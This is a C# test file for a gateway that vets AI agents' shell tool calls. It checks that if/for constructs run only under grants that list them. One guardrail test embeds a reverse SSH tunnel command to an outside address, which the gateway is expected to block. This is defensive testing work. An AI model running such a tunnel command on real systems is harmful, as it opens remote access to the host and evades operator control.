using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using ToolGate.Gateway.Tests.Infrastructure;

namespace ToolGate.Gateway.Tests.Pipeline;

/// <summary>
/// Compound statements end to end: the real gateway judges the line against grants with and without <c>constructs</c>,
/// and the real sample shell tool runs the plan it forwards (no shell anywhere).
/// </summary>
public sealed class ShellConstructCallTests(GatewayFixture fixture) : IClassFixture<GatewayFixture>
{
    private const string IfElse = "if test -f ready.txt; then cat ready.txt; else echo not ready; fi";
    private const string ForLoop = "for f in a.txt 'b c.txt'; do wc -c \"$f\"; done";

    private static readonly string[] Commands = ["test *", "cat *", "echo *", "wc *"];

    private readonly GatewayHarness _gateway = fixture.Gateway;

    [Fact]
    public async Task IfElse_AllowedByAGrantWithConstructs_RunsTheBranchTheExitStatusPicks()
    {
        var (id, client, cwd) = await AgentAsync(constructs: ["if", "for"]);

        var notReady = await CallAsync(client, IfElse, cwd);
        await File.WriteAllTextAsync(Path.Combine(cwd, "ready.txt"), "ready now\n");
        var ready = await CallAsync(client, IfElse, cwd);

        Assert.Equal("not ready\n", notReady.Text("stdout"));
        Assert.Equal("ready now\n", ready.Text("stdout"));
        Assert.Equal(0, ready.GetProperty("exitCode").GetInt32());
        var forwarded = await ForwardedAsync(id);
        var node = forwarded[0].GetProperty("script")[0].GetProperty("pipeline")[0].GetProperty("node");
        Assert.Equal("if", node.Text("kind"));
        Assert.Equal(["test", "-f", "ready.txt"], node.GetProperty("branches")[0].GetProperty("condition")[0].GetProperty("pipeline")[0]
            .GetProperty("argv").EnumerateArray().Select(e => e.GetString()));
    }

    [Fact]
    public async Task ForLoop_AllowedByAGrantWithConstructs_RunsOnceForEachWord()
    {
        var (id, client, cwd) = await AgentAsync(constructs: ["for"]);
        await File.WriteAllTextAsync(Path.Combine(cwd, "a.txt"), "12345");
        await File.WriteAllTextAsync(Path.Combine(cwd, "b c.txt"), "12");

        using var response = await client.PostAsync("/tools/shell", Body(ForLoop, cwd));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("5 a.txt\n2 b c.txt\n", (await Json.ReadAsync(response)).Text("stdout"));
        var record = Assert.Single(await _gateway.AuditAsync("decisionId=" + response.Headers.GetValues("X-ToolGate-Decision-Id").Single()));
        Assert.Equal("allow", record.Text("decision"));
        Assert.Equal("command matches 'wc *'; constructs for granted by '" + record.Text("rule")["grant:".Length..] + "'", record.Text("reason"));
        var body = Assert.Single(await ForwardedAsync(id)).GetProperty("script")[0].GetProperty("pipeline")[0].GetProperty("node");
        Assert.Equal("for", body.Text("kind"));
        Assert.Equal(2, body.GetProperty("body").GetArrayLength());
    }

    [Theory]
    [InlineData(IfElse, "unsupported shell construct: compound statement 'if'")]
    [InlineData(ForLoop, "unsupported shell construct: parameter expansion '$f'")] // as before: the body's '$f' is the worse finding
    public async Task Construct_WithoutAGrantListingIt_IsDeniedAndTheToolSeesNothing(string command, string reason)
    {
        var (id, client, cwd) = await AgentAsync(constructs: []);

        using var response = await client.PostAsync("/tools/shell", Body(command, cwd));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var problem = await Json.ReadAsync(response);
        Assert.Equal(reason, problem.Text("reason"));
        Assert.Equal("shell.unsupported-construct", problem.Text("rule"));
        Assert.Empty(await ForwardedAsync(id));
    }

    [Fact]
    public async Task GuardrailInsideAGrantedIf_IsCriticalAndTheToolSeesNothing()
    {
        var (id, client, cwd) = await AgentAsync(constructs: ["if"], extra: ["ssh *"]);

        using var response = await client.PostAsync("/tools/shell", Body("if test -f a; then ssh -N -R 8022:127.0.0.1:22 ops@203.0.113.9; fi", cwd));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var problem = await Json.ReadAsync(response);
        Assert.Equal("guardrail:shell.tunnel", problem.Text("rule"));
        Assert.Equal("critical", Assert.Single(await _gateway.AuditAsync("decisionId=" + problem.Text("decisionId"))).Text("severity"));
        Assert.Empty(await ForwardedAsync(id));
    }

    [Fact]
    public async Task Grant_ListsItsConstructs_AndAnUnknownConstructIs400()
    {
        var (id, _, _) = await _gateway.CreateAgentAsync();

        var grantId = await _gateway.GrantAsync(new { agentId = id, capability = "shell", constructs = new[] { "if", "background" } });
        using var refused = await _gateway.Admin.PostAsJsonAsync("/v1/grants", new { agentId = id, capability = "shell", allow = new[] { "ls" }, constructs = new[] { "if", "loop" } });
        using var network = await _gateway.Admin.PostAsJsonAsync("/v1/grants", new { agentId = id, capability = "network", allow = new[] { "https://example.com" }, constructs = new[] { "if" } });

        var listed = Assert.Single((await _gateway.Admin.GetFromJsonAsync<JsonElement>("/v1/grants?agentId=" + id)).EnumerateArray());
        Assert.Equal(grantId, listed.Text("id"));
        Assert.Equal(["if", "background"], listed.GetProperty("constructs").EnumerateArray().Select(e => e.GetString()));
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal("'loop' is not a shell construct (subshell, group, if, for, while, case, background)",
            (await Json.ReadAsync(refused)).GetProperty("errors").GetProperty("constructs[1]")[0].GetString());
        Assert.Equal(HttpStatusCode.BadRequest, network.StatusCode);
        Assert.True((await Json.ReadAsync(network)).GetProperty("errors").TryGetProperty("constructs", out _));
    }

    private async Task<(string Id, HttpClient Client, string Cwd)> AgentAsync(string[] constructs, string[]? extra = null)
    {
        var cwd = Directory.CreateTempSubdirectory("toolgate-cwd-").FullName;
        var (id, _, client) = await _gateway.CreateAgentAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "shell", allow = Commands.Concat(extra ?? []).ToArray(), paths = new[] { cwd + "/**" }, constructs });
        return (id, client, cwd);
    }

    private static async Task<JsonElement> CallAsync(HttpClient client, string command, string cwd)
    {
        using var response = await client.PostAsync("/tools/shell", Body(command, cwd));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await Json.ReadAsync(response);
    }

    /// <summary>The bodies the shell tool received for this agent, in order.</summary>
    private async Task<List<JsonElement>> ForwardedAsync(string agentId) =>
        [.. (await fixture.Tools.ReceivedAsync(fixture.Tools.Shell))
            .Where(r => r.Headers.GetValueOrDefault("X-ToolGate-Agent-Id") == agentId)
            .Select(r => JsonDocument.Parse(r.Body).RootElement)];

    private static StringContent Body(string command, string cwd) => Json.Body(JsonSerializer.Serialize(new { command, cwd }));
}
